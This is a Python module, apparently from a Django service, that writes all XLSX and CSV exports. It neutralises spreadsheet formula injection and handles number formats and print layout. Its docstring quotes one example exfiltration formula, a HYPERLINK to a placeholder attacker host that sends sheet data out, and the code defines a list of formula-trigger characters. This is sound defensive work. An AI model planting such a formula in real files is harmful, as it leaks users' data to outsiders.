"""The one writer for every spreadsheet (XLSX) and CSV file the service produces.

Exports carry text that people typed or imported: indicator titles, full names, service
lines. A spreadsheet program runs a cell as a formula when its text starts with ``=``
(and, in a CSV, ``+``, ``-``, ``@``, tab or carriage return too), so
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` in a title would become a live link
that sends the sheet's data away. This module is the only place that turns values into
cells, and it never lets data become a formula (OWASP "CSV injection"; ASVS 5.0 1.2.10):

* Numbers (``int``, ``float``, ``Decimal``, not ``bool``) stay numbers: numeric XLSX
  cells with the caller's display format, plain digits in a CSV. A negative number given
  as a number is written as one; the *text* ``"-3.5"`` is text like any other.
* Dates and date-times stay dates (aware date-times are shown in local time).
* Text is always a string cell in XLSX (openpyxl would otherwise make a ``str`` starting
  with ``=`` a formula cell and ``"#N/A"`` an error cell). Text that starts like a formula
  (see :func:`starts_like_formula`) also gets Excel's own "typed with an apostrophe" mark
  (``quotePrefix``), so it stays text even when someone edits the cell; the stored text is
  unchanged, so it reads and re-imports exactly as written.
* In a CSV, which has no cell types, such text is prefixed with a single quote ``'``,
  as OWASP advises; the ``csv`` module quotes any field holding a delimiter or quote.
* Characters that XML cannot hold (control characters other than tab, line feed and
  carriage return) are removed from text in both formats, so a stray one cannot fail
  the download.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from copy import copy
from datetime import date, datetime, time
from decimal import Decimal
from typing import IO

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "FORMULA_TRIGGERS",
    "XLSX_CONTENT_TYPE",
    "CSV_CONTENT_TYPE",
    "Sheet",
    "Spreadsheet",
    "csv_bytes",
    "formatted_length",
    "number_format",
    "rag_style",
    "csv_field",
    "csv_text",
    "starts_like_formula",
    "write_cell",
    "write_csv",
]

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

#: A text cell starting with one of these is read as a formula by some spreadsheet program.
FORMULA_TRIGGERS = frozenset("=+-@\t\r")
#: How much of a title goes in a printed page header (Excel allows 255 characters in all).
_MAX_HEADER_TITLE = 120
#: A spreadsheet's default column width (characters) and line height (points) at 11 point type.
_DEFAULT_WIDTH = 8.43
_LINE_HEIGHT = 15
#: Printed on landscape A4 fitted to the page width, a sheet's visible columns may add up to
#: this many characters and its 11 point text still print at 8 points or more. The printable
#: width (297 mm less two 0.5 inch margins) is 770 points, which at 8/11 scale holds 1,058
#: points of columns. A width's character is 5.25 points in Excel (Calibri), but 7 points in
#: LibreOffice where Calibri is not installed (it measures in DejaVu Sans instead): 151
#: characters; a few are kept in hand for rounding.
PRINT_WIDTH_CHARS = 145
#: The smallest print scale :data:`PRINT_WIDTH_CHARS` allows, and the points a width's
#: character takes in the widest-measuring program (for tests and checks).
PRINTABLE_WIDTH_PT = (297 / 25.4 - 1.0) * 72
POINTS_PER_CHAR = 7.0
#: The smallest width a wrapping text column is narrowed to, to fit the printed page.
_MIN_WRAPPED_WIDTH = 10
#: Excel cells hold at most this many characters.
MAX_CELL_TEXT = 32_767

Value = str | int | float | Decimal | date | datetime | time | None


def starts_like_formula(text: str) -> bool:
    """True if ``text`` starts with ``= + - @``, tab or carriage return, or does so after spaces.

    Leading spaces and line feeds are looked past because some programs trim them before
    deciding whether a cell is a formula.
    """
    return bool(text) and (text[0] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS)


def _is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def _clean_text(value: object) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def _local(value: datetime) -> datetime:
    # Excel has no time zones: show an aware moment as the local wall-clock time.
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


# CSV ----------------------------------------------------------------------------------------


def csv_field(value: Value) -> str:
    """The text of one CSV field: numbers plain (``Decimal`` as held, no exponent), dates in
    ISO 8601, and text that starts like a formula prefixed with ``'``. ``None`` is empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        raise TypeError("Write a yes/no value as the words the export should show")
    if isinstance(value, Decimal):
        return format(value, "f")
    if _is_number(value):
        return repr(value) if isinstance(value, float) else str(value)
    if isinstance(value, datetime):
        return _local(value).isoformat(sep=" ")
    if isinstance(value, date | time):
        return value.isoformat()
    text = _clean_text(value)
    return "'" + text if starts_like_formula(text) else text


def write_csv(stream: IO[str], rows: Iterable[Sequence[Value]]) -> None:
    """Write ``rows`` to a text stream (a file, a ``StringIO`` or a command's stdout).

    Lines end with CRLF, as RFC 4180 says. It matters: the ``csv`` module quotes a field only
    if it holds a character of the line ending, so with a bare LF a carriage return inside a
    field would be left unquoted and split the row in two.
    """
    writer = csv.writer(stream, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_field(value) for value in row])


def csv_text(rows: Iterable[Sequence[Value]]) -> str:
    """``rows`` as CSV text, without a byte order mark."""
    buffer = io.StringIO(newline="")
    write_csv(buffer, rows)
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Sequence[Value]]) -> bytes:
    """``rows`` as a UTF-8 CSV file with a byte order mark, so that Excel reads "£" correctly."""
    return ("\ufeff" + csv_text(rows)).encode("utf-8")


# XLSX ---------------------------------------------------------------------------------------


def number_format(kind: str, places: int = 0, unit: str = "", *, signed: bool = False) -> str:
    """The one Excel number format for a number of a kind, shared by every spreadsheet.

    Percentages are stored on the 0 to 100 scale (as the pages show them), so 75.2 is shown
    as "75.2%" with a literal "%" in the format rather than Excel's "%" (which would
    multiply by 100). Money has a pound sign, and ``unit`` (such as "days") follows a number.
    ``signed`` shows a change: "+£2,847,000", "-5%", "£0".
    """
    places = max(0, min(int(places), 6))
    decimals = "." + "0" * places if places else ""
    if kind == "money":
        text = f'"£"#,##0{decimals}'
    elif kind == "percent":
        text = f'#,##0{decimals}"%"'
    else:
        text = f"#,##0{decimals}"
        if unit:
            text += '" ' + unit.replace('"', "") + '"'
    if signed:
        return f"+{text};-{text};{text}"
    return text


def formatted_length(value: int | float | Decimal, kind: str, places: int = 0, unit: str = "", *, signed=False) -> int:
    """How many characters ``value`` takes as :func:`number_format` shows it ("-£1,600,000"
    is 11), so a column can be made wide enough for it (a spreadsheet shows "###" otherwise)."""
    places = max(0, min(int(places), 6))
    number = Decimal(str(value)).quantize(Decimal(1).scaleb(-places))
    text = f"{abs(number):,.{places}f}"
    length = len(text) + (1 if number < 0 or (signed and number > 0) else 0)
    if kind in ("money", "percent"):
        length += 1
    elif unit:
        length += 1 + len(unit)
    return length


def rag_style(rating) -> tuple[Font, PatternFill]:
    """The font and fill of a cell showing a RAG rating in words: the GOV.UK tag colours."""
    from ascent.documents.colours import rag_colours

    colours = rag_colours(rating)
    fill = PatternFill(fill_type="solid", start_color=colours.background_hex, end_color=colours.background_hex)
    return Font(bold=True, color=colours.text_hex), fill


def write_cell(cell: Cell, value: Value, *, number_format: str | None = None) -> Cell:
    """Put ``value`` in ``cell`` as a number, a date or plain text, never as a formula.

    ``number_format`` applies to numbers only (a date keeps openpyxl's ISO date format
    unless one is given).
    """
    if isinstance(value, bool):
        raise TypeError("Write a yes/no value as the words the export should show")
    if value is None:
        cell.value = None
    elif _is_number(value):
        cell.value = value
        if number_format:
            cell.number_format = number_format
    elif isinstance(value, date | time):
        cell.value = _local(value) if isinstance(value, datetime) else value
        if number_format:
            cell.number_format = number_format
    else:
        text = _clean_text(value)[:MAX_CELL_TEXT]
        cell.value = text
        # openpyxl types a str starting with "=" as a formula and "#N/A" and the like as
        # errors; data is always text.
        cell.data_type = "s"
        if starts_like_formula(text):
            cell.quotePrefix = True
    return cell


class Sheet:
    """One worksheet. Values go in through :meth:`put` and :meth:`append` only; the
    underlying openpyxl ``worksheet`` is there for layout (widths, frozen panes, filters)."""

    def __init__(self, worksheet: Worksheet):
        self.worksheet = worksheet
        #: The row :meth:`append` writes next: the one after the last row written.
        self.next_row = 1
        #: The table's heading row, repeated at the top of every printed page. Without it,
        #: the row above the frozen panes is repeated (the heading row of a table sheet).
        self.header_row: int | None = None

    def put(
        self,
        row: int,
        column: int,
        value: Value,
        *,
        number_format: str | None = None,
        font: Font | None = None,
        alignment: Alignment | None = None,
        fill: PatternFill | None = None,
    ) -> Cell:
        cell = write_cell(self.worksheet.cell(row=row, column=column), value, number_format=number_format)
        if font is not None:
            # A font given without a name keeps the workbook's (some programs fall back
            # to a serif font for a font with no name).
            if not font.name:
                font = copy(font)
                font.name, font.family = cell.font.name, cell.font.family
            cell.font = font
        if alignment is not None:
            cell.alignment = alignment
        if fill is not None:
            cell.fill = fill
        self.next_row = max(self.next_row, row + 1)
        return cell

    def append(self, values: Sequence[Value] = (), *, font: Font | None = None) -> int:
        """Write ``values`` on :attr:`next_row` (nothing leaves a blank row); returns its number."""
        row = self.next_row
        for column, value in enumerate(values, start=1):
            self.put(row, column, value, font=font)
        self.next_row = row + 1
        return row

    def fold_columns(self, columns: Iterable[int]) -> None:
        """Fold columns away (hidden, in an outline group with a "+" to show them again): they
        stay in the file, for filtering and reading, but are not printed, so the columns a
        board reads print large enough."""
        for column in columns:
            dimension = self.worksheet.column_dimensions[get_column_letter(column)]
            dimension.outlineLevel = 1
            dimension.hidden = True
        self.worksheet.sheet_properties.outlinePr.summaryRight = False

    def link(self, row: int, column: int, text: str, *, location: str, font: Font | None = None) -> Cell:
        """A cell whose text links to ``location`` inside the workbook, such as ``"'Sheet'!A1"``."""
        cell = self.put(row, column, text, font=font)
        cell.hyperlink = Hyperlink(ref=cell.coordinate, location=location, display=cell.value)
        return cell


class Spreadsheet:
    """A workbook built through :class:`Sheet` objects, saved with :meth:`to_bytes`."""

    def __init__(self, *, title: str = "", subject: str = ""):
        self._workbook = Workbook()
        self._first_unused = True
        self._sheets: list[Sheet] = []
        self._title = title
        properties = self._workbook.properties
        properties.title = title or None
        properties.subject = subject or title or None
        properties.creator = "Ascent"
        properties.lastModifiedBy = "Ascent"
        properties.language = "en-GB"

    def add_sheet(self, title: str) -> Sheet:
        """A new worksheet titled ``title`` (which must already be a valid, unique sheet title)."""
        if self._first_unused:
            self._first_unused = False
            worksheet = self._workbook.active
            worksheet.title = title
        else:
            worksheet = self._workbook.create_sheet(title)
        sheet = Sheet(worksheet)
        self._sheets.append(sheet)
        return sheet

    def _print_setup(self, sheet: Sheet) -> None:
        """Set a sheet up to print as a board paper: A4 landscape, as wide as the page and
        as many pages long as it takes, the heading row repeated on every page, the title in
        the page header and page numbers in the footer."""
        worksheet = sheet.worksheet
        setup = worksheet.page_setup
        setup.orientation = "landscape"
        setup.paperSize = worksheet.PAPERSIZE_A4
        setup.fitToWidth = 1
        setup.fitToHeight = 0  # as many pages long as needed
        worksheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
        worksheet.print_options.gridLines = False
        worksheet.page_margins.left = worksheet.page_margins.right = 0.5
        worksheet.page_margins.top = worksheet.page_margins.bottom = 0.75
        header_row = sheet.header_row
        if header_row is None and worksheet.freeze_panes:
            frozen = worksheet[worksheet.freeze_panes].row
            header_row = frozen - 1 if frozen > 1 else None
        if header_row:
            worksheet.print_title_rows = f"{header_row}:{header_row}"
        # Printed as wide as the table, not as wide as a long title's text runs on to the
        # right of it (which would shrink the whole page to fit it in).
        if worksheet.max_row and worksheet.max_column:
            worksheet.print_area = f"A1:{get_column_letter(worksheet.max_column)}{worksheet.max_row}"
        # "&" starts a header code, so a title's own ampersands are doubled.
        title = (self._title or worksheet.title)[:_MAX_HEADER_TITLE].replace("&", "&&")
        worksheet.oddHeader.left.text = title
        worksheet.oddHeader.right.text = "&A"  # the sheet's name
        worksheet.oddFooter.right.text = "Page &P of &N"
        worksheet.evenHeader.left.text = title
        worksheet.evenHeader.right.text = "&A"
        worksheet.evenFooter.right.text = "Page &P of &N"

    @staticmethod
    def _fit_rows(sheet: Sheet) -> None:
        """Make each row tall enough for its wrapped text.

        Spreadsheet programs do not all work row heights out when they open a file
        (LibreOffice leaves wrapped lines drawn over the next row), so the height is set
        from the column widths: about one line of 15 points for each width's worth of text.
        """
        worksheet = sheet.worksheet
        widths = {letter: dimension.width for letter, dimension in worksheet.column_dimensions.items()}
        hidden = {letter for letter, dimension in worksheet.column_dimensions.items() if dimension.hidden}
        for row in worksheet.iter_rows():
            lines = 1
            for cell in row:
                if not isinstance(cell.value, str) or not cell.alignment.wrap_text or cell.column_letter in hidden:
                    continue
                width = max((widths.get(cell.column_letter) or _DEFAULT_WIDTH) - 1, 1)
                # Words do not fill a line exactly, so allow a little more than the width.
                needed = sum(
                    1 if len(line) <= width else math.ceil(len(line) * 1.1 / width)
                    for line in cell.value.splitlines() or [""]
                )
                lines = max(lines, needed)
            if lines > 1:
                worksheet.row_dimensions[row[0].row].height = _LINE_HEIGHT * lines

    @staticmethod
    def _fit_print_width(sheet: Sheet) -> None:
        """Narrow the widest wrapping text columns until the sheet's columns add up to
        :data:`PRINT_WIDTH_CHARS`, so that printed as wide as a landscape A4 page its text is
        still 8 points or more. Columns holding numbers or text that does not wrap (ratings)
        keep their width: a number too wide for its column shows as "###"."""
        worksheet = sheet.worksheet
        header = sheet.header_row or 0
        dimensions = worksheet.column_dimensions
        used = {cell.column_letter for row in worksheet.iter_rows() for cell in row if cell.value is not None}
        # Hidden columns (folded away, see ``fold_columns``) are not printed.
        widths = {
            letter: dimensions[letter].width or _DEFAULT_WIDTH for letter in used if not dimensions[letter].hidden
        }
        if sum(widths.values()) <= PRINT_WIDTH_CHARS:
            return
        fixed: set[str] = set()
        for row in worksheet.iter_rows(min_row=header + 1):
            for cell in row:
                if cell.value is None:
                    continue
                if not isinstance(cell.value, str) or not cell.alignment.wrap_text:
                    fixed.add(cell.column_letter)
        # Each wrapping column gives up the same share of its width above the smallest, so
        # the widest (an indicator's name) stays the widest.
        wrapping = [letter for letter in widths if letter not in fixed]
        # No column is narrowed below its heading's longest word, which would break it
        # mid-word ("Approxima" / "te").
        floors = dict.fromkeys(wrapping, _MIN_WRAPPED_WIDTH)
        if header:
            for cell in worksheet[header]:
                if cell.column_letter in floors and isinstance(cell.value, str) and cell.value.split():
                    longest = max(len(word) for word in cell.value.split()) + 2
                    floors[cell.column_letter] = max(floors[cell.column_letter], longest)
        excess = sum(max(widths[letter] - floors[letter], 0) for letter in wrapping)
        over = sum(widths.values()) - PRINT_WIDTH_CHARS
        if not excess:
            return
        share = min(over / excess, 1)
        for letter in wrapping:
            above = max(widths[letter] - floors[letter], 0)
            widths[letter] = math.floor(widths[letter] - above * share)
        for letter, width in widths.items():
            dimensions[letter].width = width

    def to_bytes(self) -> bytes:
        for sheet in self._sheets:
            self._fit_print_width(sheet)
            self._fit_rows(sheet)
            self._print_setup(sheet)
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()


def stream_xlsx(path, rows: Iterable[Sequence[Value]], *, sheet_title: str = "Sheet1") -> int:
    """Write ``rows`` to a one-sheet workbook at ``path`` as they come (openpyxl's write-only
    mode, so a million rows take little memory), each value as :func:`write_cell` would put it.
    Returns the number of rows written."""
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_title)
    count = 0
    for row in rows:
        sheet.append([write_cell(WriteOnlyCell(sheet), value) for value in row])
        count += 1
    book.save(path)
    return count
